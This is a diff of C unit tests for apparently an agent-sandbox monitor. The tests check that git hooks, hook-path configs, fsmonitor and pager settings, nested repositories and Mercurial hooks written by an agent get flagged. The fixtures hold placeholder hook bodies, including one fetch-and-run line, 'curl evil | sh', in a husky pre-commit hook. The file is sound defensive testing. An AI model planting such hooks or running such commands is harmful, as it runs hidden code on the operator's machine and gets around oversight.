@@ -7,6 +7,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <jansson.h>
+#include <pwd.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -898,17 +899,17 @@ Test(workspace, git_changed_in_place)
         usleep(20000);
         uint64_t since = now_ns();
         json_t *found = NULL;
-        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
         cr_expect_null(found, "nothing changed since");
 
         usleep(20000);
         put(lower, ".git/refs/main", "0000\n", 0644); /* data: not looked at */
         put(lower, ".git/HEAD", "ref: refs/heads/x\n", 0644);
-        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
         cr_expect_null(found, "a branch and HEAD are git's data, not its commands");
 
         put(lower, ".git/hooks/post-checkout", "evil\n", 0755);
-        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
         cr_assert_not_null(found);
         cr_expect_eq(json_integer_value(json_object_get(found, "count")), 2, "the hook and hooks/ itself");
         cr_expect_str_eq(json_string_value(json_array_get(json_object_get(found, "paths"), 1)),
@@ -921,7 +922,7 @@ Test(workspace, git_changed_in_place)
         snprintf(cmd, sizeof(cmd), "rm -rf '%s/.git'", lower);
         cr_assert_eq(system(cmd), 0);
         put(lower, ".git", "gitdir: /elsewhere\n", 0644);
-        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
         cr_assert_not_null(found);
         cr_expect_str_eq(json_string_value(json_array_get(json_object_get(found, "paths"), 0)), ".git");
         json_decref(found);
@@ -937,7 +938,7 @@ Test(workspace, git_changed_bounded)
                 put(lower, name, "", 0644);
         }
         json_t *found = NULL;
-        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, &found), 0);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, NULL, &found), 0);
         cr_assert_not_null(found);
         cr_expect(json_is_true(json_object_get(found, "cut")), "the look stops at its bound and says so");
         cr_expect_eq(json_array_size(json_object_get(found, "paths")), AJ_WS_GIT_SHOWN);
@@ -1262,11 +1263,11 @@ Test(workspace, git_changed_in_place_config_targets)
         usleep(20000);
         put(lower, "src.c", "int y;\n", 0644);
         json_t *found = NULL;
-        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
         cr_expect_null(found, "an ordinary file of the work tree is not git's");
 
         put(lower, ".husky/_/pre-commit", "curl evil | sh\n", 0755);
-        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
         cr_assert_not_null(found);
         bool hook = false;
         size_t i;
@@ -1274,5 +1275,328 @@ Test(workspace, git_changed_in_place_config_targets)
         json_array_foreach (json_object_get(found, "paths"), i, p)
                 hook = hook || streq(json_string_value(p), ".husky/_/pre-commit");
         cr_expect(hook, "the hook in core.hooksPath is named");
+        json_decref(found);
+}
+
+static bool found_path(json_t *found, const char *path)
+{
+        size_t i;
+        json_t *p;
+        json_array_foreach (json_object_get(found, "paths"), i, p)
+                if (streq(json_string_value(p), path))
+                        return true;
+        return false;
+}
+
+/* rw: the repositories below the workspace's top are looked at too, with the same rule: a
+ * nested repository's hook and config (git run in sub/ runs them), a submodule's work tree
+ * that its gitdir's config (in .git/modules) names, a repository made during the run deep
+ * down, a directory holding a HEAD (a bare repository), an .hg (Mercurial's hgrc). The
+ * same names outside any repository are not git's. */
+Test(workspace, git_changed_in_place_nested_repositories)
+{
+        mkd(lower, ".git", 0755);
+        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
+        mkd(lower, ".git/modules", 0755);
+        mkd(lower, ".git/modules/y", 0755);
+        put(lower, ".git/modules/y/config", "[core]\n\thooksPath = hooks2\n", 0644);
+        mkd(lower, "sub", 0755);
+        mkd(lower, "sub/.git", 0755);
+        put(lower, "sub/.git/HEAD", "ref: refs/heads/main\n", 0644);
+        put(lower, "sub/.git/config", "[core]\n", 0644);
+        mkd(lower, "sub/.git/hooks", 0755);
+        mkd(lower, "lib", 0755);
+        mkd(lower, "lib/y", 0755);
+        put(lower, "lib/y/.git", "gitdir: ../../.git/modules/y\n", 0644);
+        mkd(lower, "lib/y/hooks2", 0755);
+        mkd(lower, "srv", 0755);
+        mkd(lower, "srv/repo.git", 0755);
+        put(lower, "srv/repo.git/HEAD", "ref: refs/heads/main\n", 0644);
+        put(lower, "srv/repo.git/config", "[core]\n\tbare = true\n", 0644);
+        mkd(lower, "plain", 0755);
+        mkd(lower, "plain/hooks2", 0755);
+        usleep(20000);
+        uint64_t since = now_ns();
+        usleep(20000);
+        put(lower, "sub/.git/hooks/post-checkout", "evil\n", 0755);
+        put(lower, "sub/.git/config", "[core]\n\tfsmonitor = evil\n", 0644);
+        put(lower, "sub/.git/HEAD", "ref: refs/heads/x\n", 0644);
+        put(lower, "lib/y/hooks2/post-checkout", "evil\n", 0755);
+        put(lower, "srv/repo.git/config", "[core]\n\tpager = evil\n", 0644);
+        put(lower, "plain/hooks2/post-checkout", "fine\n", 0755);
+        cr_assert_eq(mkdir(at(lower, "a"), 0755), 0);
+        cr_assert_eq(mkdir(at(lower, "a/b"), 0755), 0);
+        cr_assert_eq(mkdir(at(lower, "a/b/.git"), 0755), 0);
+        put(lower, "a/b/.git/config", "[core]\n\tfsmonitor = evil\n", 0644);
+        cr_assert_eq(mkdir(at(lower, "a/hg"), 0755), 0);
+        cr_assert_eq(mkdir(at(lower, "a/hg/.hg"), 0755), 0);
+        put(lower, "a/hg/.hg/hgrc", "[hooks]\nupdate = evil\n", 0644);
+        /* A symlink is not followed: out of the workspace, nor round it in circles. */
+        mkd(outside, "o", 0755);
+        mkd(outside, "o/.git", 0755);
+        put(outside, "o/.git/config", "[core]\n\tfsmonitor = evil\n", 0644);
+        cr_assert_eq(symlink(at(outside, "o"), at(lower, "out")), 0);
+        cr_assert_eq(symlink(".", at(lower, "loop")), 0);
+
+        json_t *found = NULL;
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
+        cr_assert_not_null(found);
+        static const char *const want[] = {
+                "sub/.git/hooks/post-checkout", "sub/.git/config", "lib/y/hooks2/post-checkout",
+                "srv/repo.git/config",          "a/b/.git/config", "a/hg/.hg/hgrc"
+        };
+        for (size_t i = 0; i < ARRAY_SIZE(want); i++)
+                cr_expect(found_path(found, want[i]), "%s is named", want[i]);
+        cr_expect_not(found_path(found, "sub/.git/HEAD"), "a HEAD is data");
+        cr_expect_not(found_path(found, "plain/hooks2/post-checkout"), "not in a repository's work tree");
+        cr_expect_not(found_path(found, "out/.git/config"), "not through a symlink");
+        cr_expect_eq(json_integer_value(json_object_get(found, "count")), 8,
+                     "and the directories sub/.git/hooks and lib/y/hooks2 (an entry added): %s",
+                     json_dumps(found, JSON_COMPACT));
+        cr_expect(json_is_false(json_object_get(found, "cut")));
+        json_decref(found);
+}
+
+/* Whatever the agent creates, the look stays bounded and says where it stopped: more
+ * repositories than it looks into, more entries than it walks, deeper than it goes. */
+Test(workspace, git_changed_in_place_nested_bounded)
+{
+        char name[64];
+        for (int i = 0; i <= AJ_WS_GIT_MAX_REPOS; i++) {
+                snprintf(name, sizeof(name), "r%d", i);
+                mkd(lower, name, 0755);
+                snprintf(name, sizeof(name), "r%d/.git", i);
+                mkd(lower, name, 0755);
+        }
+        json_t *found = NULL;
+        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, NULL, &found), 0);
+        cr_assert_not_null(found);
+        cr_expect(json_is_true(json_object_get(found, "cut")));
+        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "repositories");
+        json_decref(found);
+
+        char cmd[512];
+        snprintf(cmd, sizeof(cmd), "rm -rf '%s'/r*", lower);
+        cr_assert_eq(system(cmd), 0);
+        /* The default bounds, smaller: AJ_WS_GIT_WALK_ENTRIES files take seconds to make. */
+        AjWsGitLimits lim = { .walk_entries = 100, .walk_depth = 8 };
+        /* Breadth first: a repository near the top is seen before a deep pile stops the walk,
+         * whichever the directory lists first (one pile is enough to stop it, and there are
+         * 30 of them beside the repository). */
+        for (int k = 0; k < 30; k++) {
+                snprintf(name, sizeof(name), "big%d", k);
+                mkd(lower, name, 0755);
+                snprintf(name, sizeof(name), "big%d/many", k);
+                mkd(lower, name, 0755);
+                for (int i = 0; i <= 100; i++) {
+                        snprintf(name, sizeof(name), "big%d/many/%d", k, i);
+                        put(lower, name, "", 0644);
+                }
+        }
+        mkd(lower, "z", 0755);
+        mkd(lower, "z/.git", 0755);
+        put(lower, "z/.git/config", "[core]\n", 0644);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, &lim, &found), 0);
+        cr_assert_not_null(found);
+        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "workspace_entries");
+        cr_expect(found_path(found, "z/.git/config"));
+        cr_expect_eq(json_integer_value(json_object_get(found, "count")), 1);
+        json_decref(found);
+
+        snprintf(cmd, sizeof(cmd), "rm -rf '%s'/big* '%s'/z", lower, lower);
+        cr_assert_eq(system(cmd), 0);
+        char deep[PATH_MAX] = "";
+        for (int i = 0; i < 9; i++) {
+                strcat(deep, i ? "/d" : "d");
+                mkd(lower, deep, 0755);
+        }
+        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, &lim, &found), 0);
+        cr_assert_not_null(found);
+        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "workspace_depth");
+        json_decref(found);
+
+        /* Time: the deadline checked before each directory is listed, passed at once. */
+        lim = (AjWsGitLimits){ .walk_ms = 1 };
+        for (int i = 0; i < 2000; i++) {
+                snprintf(name, sizeof(name), "w%d", i);
+                mkd(lower, name, 0755);
+        }
+        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, &lim, &found), 0);
+        cr_assert_not_null(found);
+        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "workspace_time",
+                         "2,000 directories listed in under 1 ms?");
+        json_decref(found);
+}
+
+/* The operator's global config names paths in the workspace's repositories too: a
+ * relative core.hooksPath (git 2.39 ran <top>/.githooks/pre-commit in each repository),
+ * an include relative to ~, a command's script; from ~/.gitconfig, $XDG_CONFIG_HOME/git/
+ * config and $GIT_CONFIG_GLOBAL alike. Marked in the overlay's diff. */
+static void global_config(void)
+{
+        char home[128], xdg[128], global[128];
+        snprintf(home, sizeof(home), "%s/home", outside);
+        snprintf(xdg, sizeof(xdg), "%s/xdg", outside);
+        snprintf(global, sizeof(global), "%s/global.cfg", outside);
+        mkd(outside, "home", 0755);
+        mkd(outside, "xdg", 0755);
+        mkd(outside, "xdg/git", 0755);
+        put(outside, "home/.gitconfig", "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../../lower/team.cfg\n",
+            0644);
+        put(outside, "xdg/git/config", "[core]\n\tfsmonitor = tools/fsmon.sh\n", 0644);
+        put(outside, "global.cfg", "[includeIf \"gitdir:/\"]\n\tpath = ../lower/more.cfg\n", 0644);
+        cr_assert_eq(setenv("HOME", home, 1), 0);
+        cr_assert_eq(setenv("XDG_CONFIG_HOME", xdg, 1), 0);
+        cr_assert_eq(setenv("GIT_CONFIG_GLOBAL", global, 1), 0);
+        cr_assert_eq(unsetenv("SUDO_USER"), 0);
+}
+
+Test(workspace, git_code_named_by_the_global_config)
+{
+        global_config();
+        mkd(lower, ".git", 0755);
+        put(lower, ".git/config", "[core]\n", 0644);
+        mkd(lower, "sub", 0755);
+        mkd(lower, "sub/.git", 0755);
+        mkd(upper, ".githooks", 0755);
+        put(upper, ".githooks/pre-commit", "evil\n", 0755);
+        mkd(upper, "sub", 0755);
+        mkd(upper, "sub/.githooks", 0755);
+        put(upper, "sub/.githooks/pre-commit", "evil\n", 0755);
+        put(upper, "team.cfg", "[core]\n\tpager = evil\n", 0644);
+        put(upper, "more.cfg", "[core]\n\tpager = evil\n", 0644);
+        mkd(upper, "tools", 0755);
+        put(upper, "tools/fsmon.sh", "evil\n", 0755);
+        put(upper, "tools/build.sh", "fine\n", 0755);
+
+        AjWsChange *c = NULL;
+        size_t n = diff(&c, 0);
+        static const char *const marked[] = { ".githooks",     ".githooks/pre-commit",
+                                              "sub/.githooks", "sub/.githooks/pre-commit",
+                                              "team.cfg",      "more.cfg",
+                                              "tools",         "tools/fsmon.sh" };
+        size_t seen = 0;
+        for (size_t i = 0; i < n; i++) {
+                bool want = false;
+                for (size_t k = 0; k < ARRAY_SIZE(marked); k++)
+                        want |= streq(c[i].path, marked[k]);
+                seen += want;
+                cr_expect_eq(c[i].git_code != NULL, want, "%s: git_code %s", c[i].path, c[i].git_code ?: "none");
+        }
+        cr_expect_eq(seen, ARRAY_SIZE(marked));
+        aj_ws_changes_free(c, n);
+}
+
+/* rw: the same global hooksPath makes a hook the agent adds there one of git's own files. */
+Test(workspace, git_changed_in_place_global_config)
+{
+        global_config();
+        mkd(lower, ".git", 0755);
+        put(lower, ".git/config", "[core]\n", 0644);
+        mkd(lower, ".githooks", 0755);
+        usleep(20000);
+        uint64_t since = now_ns();
+        usleep(20000);
+        put(lower, ".githooks/pre-commit", "evil\n", 0755);
+        /* Named twice (the global hooksPath, a command in the repository's config):
+         * counted once. */
+        put(lower, ".git/config", "[alias]\n\tpc = !.githooks/pre-commit\n", 0644);
+        json_t *found = NULL;
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
+        cr_assert_not_null(found);
+        cr_expect(found_path(found, ".githooks/pre-commit"));
+        cr_expect_eq(json_integer_value(json_object_get(found, "count")), 3,
+                     ".git/config, .githooks and its pre-commit once: %s", json_dumps(found, JSON_COMPACT));
+        json_decref(found);
+}
+
+/* "~" in a config is the home of whoever runs git: the workspace may be in it. Under sudo
+ * (SUDO_USER set) that is also the invoking user's home from the passwd database, which
+ * git run by them without sudo reads ~/.gitconfig from. root's home is bound over by a
+ * scratch directory in a mount namespace of the test's own, to play the invoking user's. */
+Test(workspace, git_code_named_through_the_operators_homes)
+{
+        if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
+                cr_assert_fail("unshare(CLONE_NEWNS) failed: %s (the unit tests need root)", strerror(errno));
+        struct passwd *pw = getpwnam("root");
+        cr_assert(pw && pw->pw_dir[0] == '/');
+        mkd(outside, "sudoer", 0755);
+        char cfg[512];
+        snprintf(cfg, sizeof(cfg), "[core]\n\thooksPath = %s/sudo-hooks\n", lower);
+        put(outside, "sudoer/.gitconfig", cfg, 0644);
+        cr_assert_eq(mount(at(outside, "sudoer"), pw->pw_dir, NULL, MS_BIND, NULL), 0, "%s", strerror(errno));
+        mkd(outside, "home", 0755);
+        cr_assert_eq(setenv("HOME", at(outside, "home"), 1), 0);
+        cr_assert_eq(unsetenv("XDG_CONFIG_HOME"), 0);
+        cr_assert_eq(unsetenv("GIT_CONFIG_GLOBAL"), 0);
+        cr_assert_eq(setenv("SUDO_USER", "root", 1), 0);
+        /* The repository's include through "~": $HOME is the scratch home, in which the
+         * workspace is reached by a symlink. */
+        cr_assert_eq(symlink(lower, at(outside, "home/ws")), 0);
+        mkd(lower, ".git", 0755);
+        put(lower, ".git/config", "[include]\n\tpath = ~/ws/shared.cfg\n", 0644);
+        mkd(upper, "sudo-hooks", 0755);
+        put(upper, "sudo-hooks/post-checkout", "evil\n", 0755);
+        put(upper, "shared.cfg", "[core]\n\tfsmonitor = evil\n", 0644);
+        put(upper, "work.txt", "fine\n", 0644);
+
+        AjWsChange *c = NULL;
+        size_t n = diff(&c, 0);
+        umount2(pw->pw_dir, MNT_DETACH);
+        cr_assert_eq(n, 4);
+        for (size_t i = 0; i < n; i++)
+                cr_expect_eq(c[i].git_code != NULL, !streq(c[i].path, "work.txt"), "%s: git_code %s", c[i].path,
+                             c[i].git_code ?: "none");
+        aj_ws_changes_free(c, n);
+}
+
+/* The workspace a subdirectory of the operator's repository (a package of a monorepo):
+ * git run in it finds the repository above, whose config names paths in the workspace
+ * (husky installed at the top for packages/app: hooksPath = lower/.husky). Marked in the
+ * overlay's diff, and named by the rw look. */
+Test(workspace, git_code_named_by_the_enclosing_repositorys_config)
+{
+        mkd(root, ".git", 0755);
+        put(root, ".git/config", "[core]\n\thooksPath = lower/.husky\n", 0644);
+        mkd(lower, ".husky", 0755);
+        mkd(upper, ".husky", 0755);
+        put(upper, ".husky/pre-commit", "evil\n", 0755);
+        put(upper, "work.txt", "fine\n", 0644);
+        AjWsChange *c = NULL;
+        size_t n = diff(&c, 0);
+        cr_assert_eq(n, 2);
+        cr_expect_not_null(c[0].git_code, "%s", c[0].path);
+        cr_expect_null(c[1].git_code, "%s", c[1].path);
+        aj_ws_changes_free(c, n);
+
+        usleep(20000);
+        uint64_t since = now_ns();
+        usleep(20000);
+        put(lower, ".husky/pre-commit", "evil\n", 0755);
+        put(lower, "work.txt", "fine\n", 0644);
+        json_t *found = NULL;
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
+        cr_assert_not_null(found);
+        cr_expect(found_path(found, ".husky/pre-commit"));
+        cr_expect_not(found_path(found, "work.txt"));
+        json_decref(found);
+}
+
+/* rw: a config the look cannot read (past 1 MiB) cuts it, and the event says which file. */
+Test(workspace, git_changed_in_place_config_unreadable)
+{
+        mkd(lower, ".git", 0755);
+        char *big = malloc((2u << 20) + 1);
+        cr_assert_not_null(big);
+        memset(big, '#', 2u << 20);
+        big[2u << 20] = 0;
+        put(lower, ".git/config", big, 0644);
+        free(big);
+        json_t *found = NULL;
+        cr_assert_eq(aj_ws_git_changed(lower_fd, now_ns() + 1000000000ull, NULL, &found), 0);
+        cr_assert_not_null(found);
+        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "config");
+        const char *why = json_string_value(json_object_get(found, "config_error")) ?: "";
+        cr_expect(strstr(why, "/.git/config' is larger than"), "%s", why);
         json_decref(found);
 }
